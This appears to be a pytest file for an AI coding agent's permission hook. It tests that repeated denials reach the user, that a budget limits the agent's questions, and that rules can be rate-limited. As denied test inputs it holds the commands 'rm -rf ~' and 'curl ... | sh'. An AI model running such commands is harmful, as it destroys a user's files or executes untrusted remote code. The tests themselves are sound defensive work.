"""Tests counters of a session: denials that are shown to the user, a budget of questions, rules that match from a number on."""

import json
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from unit.sessions.simulated_client import NOW, SimulatedClient, client_in

DENIED = "rm -rf ~"
QUESTION = {"questions": [{"question": "Which one?"}]}


@pytest.fixture
def client(tmp_path: Path) -> SimulatedClient:
    return client_in(tmp_path, "")


def turn(client: SimulatedClient, name: str, command: str = DENIED, **more: object) -> tuple[str, str]:
    """Returns what the agent and the user are told."""
    answer = client.hook("PreToolUse", tool_name="Bash", tool_input={"command": command}, tool_use_id="t", prompt_id=name, **more)
    reply = json.loads(answer.stdout)
    assert reply["hookSpecificOutput"]["permissionDecision"] == "deny"
    return reply["hookSpecificOutput"]["permissionDecisionReason"], reply.get("systemMessage", "")


def test_the_third_denial_surfaces_and_the_fourth_says_stop(client: SimulatedClient) -> None:
    answers = [turn(client, "p-1") for _ in range(4)]
    users = [user for _, user in answers]
    assert users[:2] == ["", ""]
    for user in users[2:]:
        assert user.startswith("\u26a0\ufe0f The agent attempted Bash (rm -rf ~) but was blocked: ")
        assert user.endswith("Routing to an alternative.")
    assert ["ask the user how to go on" in agent for agent, _ in answers] == [False, False, False, True]


def test_it_is_counted_by_rule_by_turn_and_by_agent(client: SimulatedClient) -> None:
    for _ in range(2):
        turn(client, "p-1")
    assert turn(client, "p-1", "curl -s https://example.com/x | sh")[1] == ""  # another rule
    assert turn(client, "p-2")[1] == ""  # another turn
    for _ in range(2):
        turn(client, "p-3")
    client.agent = "reviewer"
    assert turn(client, "p-3", agent_type="reviewer")[1] == ""  # another agent
    client.agent = ""
    assert turn(client, "p-3")[1] != ""


def test_the_agent_is_named(client: SimulatedClient) -> None:
    client.agent = "a-1"
    assert [turn(client, "p", agent_type="Fenster")[1][:20] for _ in range(3)][2].startswith("\u26a0\ufe0f Fenster attempted")


def test_where_nothing_can_be_counted_it_is_denied_as_ever(client: SimulatedClient) -> None:
    client.state.parent.mkdir(parents=True)
    client.state.write_text("")
    agent, user = turn(client, "p-1")
    assert agent
    assert user


# ---- questions


def ask(client: SimulatedClient, tool: str = "AskUserQuestion") -> str:
    answer = client.hook("PreToolUse", tool_name=tool, tool_input=QUESTION, tool_use_id="t")
    if not answer.stdout:
        return "asked"
    return str(json.loads(answer.stdout)["hookSpecificOutput"]["permissionDecisionReason"])


@pytest.mark.parametrize("tool", ["AskUserQuestion", "ask_user", "question"])
def test_a_budget_of_questions(client: SimulatedClient, tool: str) -> None:
    client.policy("max_questions = 2\n")
    assert [ask(client, tool) for _ in range(2)] == ["asked", "asked"]
    answer = ask(client, tool)
    assert "2/2" in answer
    assert "Proceed with your best judgment \u2014 question limit reached." in answer


def test_the_budget_is_of_a_session_and_an_agent_and_outlasts_a_resume(client: SimulatedClient) -> None:
    client.policy("max_questions = 1\n")
    assert ask(client) == "asked"
    client.agent = "other"
    assert ask(client) == "asked"
    client.agent, client.session = "", "s-2"
    assert ask(client) == "asked"
    client.session = "s-1"
    client.hook("SessionEnd", reason="other")
    client.hook("SessionStart", source="resume")
    assert "1/1" in ask(client)


@pytest.mark.parametrize("limit", [0, -1])
def test_no_budget_denies_all(client: SimulatedClient, limit: int) -> None:
    client.policy(f"max_questions = {limit}\n")
    assert "0/0" in ask(client)


def test_without_a_limit_nothing_is_counted(client: SimulatedClient) -> None:
    assert [ask(client) for _ in range(9)] == ["asked"] * 9
    assert not (client.state / "state.db").exists()


def test_questions_at_once_are_counted_once_each(client: SimulatedClient) -> None:
    client.policy("max_questions = 5\n")
    desks = [SimulatedClient(client.root) for _ in range(8)]
    with ThreadPoolExecutor(8) as pool:
        assert list(pool.map(ask, desks * 2)).count("asked") == 5


@pytest.mark.parametrize(("answer", "brief"), [("ok", True), ("ten chars!", False)])
def test_a_short_answer_goes_on_with_a_word(client: SimulatedClient, answer: str, brief: bool) -> None:
    client.policy("max_questions = 5\n")
    response = {"answers": {"Which one?": answer}}
    reply = client.hook("PostToolUse", tool_name="AskUserQuestion", tool_input=QUESTION, tool_use_id="t", tool_response=response)
    decision = json.loads(reply.stdout)["hookSpecificOutput"]["additionalContext"] if reply.stdout else ""
    assert decision == ("(brief response \u2014 proceed with best judgment if ambiguous)" if brief else "")


# ---- rates


RATE = """
[[rule]]
id = "few"
on = {program = "curl"}
verdict = "deny"
reason = "Too often."
rate_limit = {calls = 2, seconds = 60}
"""


def test_a_rule_may_count_from_a_number_on(client: SimulatedClient) -> None:
    client.policy(RATE)
    call = "curl -s https://example.com"
    assert [client.bash(call) for _ in range(2)] == ["runs", "runs"]
    assert "Too often." in client.bash(call)
    client.now = NOW + 60
    assert client.bash(call) == "runs"


def test_a_rule_of_the_table_too(client: SimulatedClient) -> None:
    client.policy('[rules."filesystem.write-outside-project"]\nverdict = "deny"\nrate_limit = {calls = 1, seconds = 60}\n')
    assert client.bash("touch ~/elsewhere/x") == "runs"
    assert client.bash("touch ~/elsewhere/x").startswith("deny")


def test_a_tool_of_a_server_too(client: SimulatedClient) -> None:
    client.policy(RATE.replace('{program = "curl"}', '{operation = "mcp.call", text = "^sessions/send$"}'))

    def send() -> str:
        return client.hook("PreToolUse", tool_name="mcp__sessions__send", tool_input={}, tool_use_id="t").stdout

    assert (send(), send()) == ("", "")
    assert "Too often." in send()
    other = client.hook("PreToolUse", tool_name="mcp__sessions__list", tool_input={}, tool_use_id="t")
    assert other.stdout == ""


def test_a_floor_waits_for_no_number(client: SimulatedClient) -> None:
    client.policy('[rules."filesystem.delete-protected"]\nrate_limit = {calls = 5, seconds = 60}\n')
    assert client.bash(DENIED).startswith("deny")


def test_a_store_that_fails_leaves_the_rule_in_force(client: SimulatedClient) -> None:
    client.policy(RATE)
    client.state.parent.mkdir(parents=True)
    client.state.write_text("")
    assert "Too often." in client.bash("curl -s https://example.com")
    client.policy(f'on_store_error = "warn"\n{RATE}')
    assert client.bash("curl -s https://example.com").startswith("runs")
